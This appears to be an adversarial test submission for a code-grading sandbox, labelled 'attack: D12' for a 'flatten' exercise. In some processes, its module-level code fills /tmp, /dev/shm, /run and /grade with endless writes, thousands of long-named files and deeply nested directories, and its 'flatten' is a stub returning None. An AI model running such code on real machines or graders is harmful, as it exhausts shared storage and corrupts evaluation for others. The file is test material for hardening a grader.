# exercise: flatten
# attack: D12
# must: earn no more than a stub
# within: 90 seconds
"""Fills every folder that can be written to, with bytes and with names, deep and in great number."""

import os

BLOCK = bytes(1 << 20)

# In some tests, so that the others see what was left.
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue", "/grade") if os.getpid() % 6 == 0 else ():
    try:
        os.chdir(folder)
        with open("bytes", "wb", 0) as file:
            while True:
                file.write(BLOCK)
    except OSError:
        pass
    try:
        for number in range(5000):
            os.close(os.open(f"{number:0200}", os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass
    try:
        os.unlink(f"{0:0200}")
        for _ in range(100):
            os.mkdir("deeper" * 30)
            os.chdir("deeper" * 30)
    except OSError:
        pass


def flatten(items):
    return None
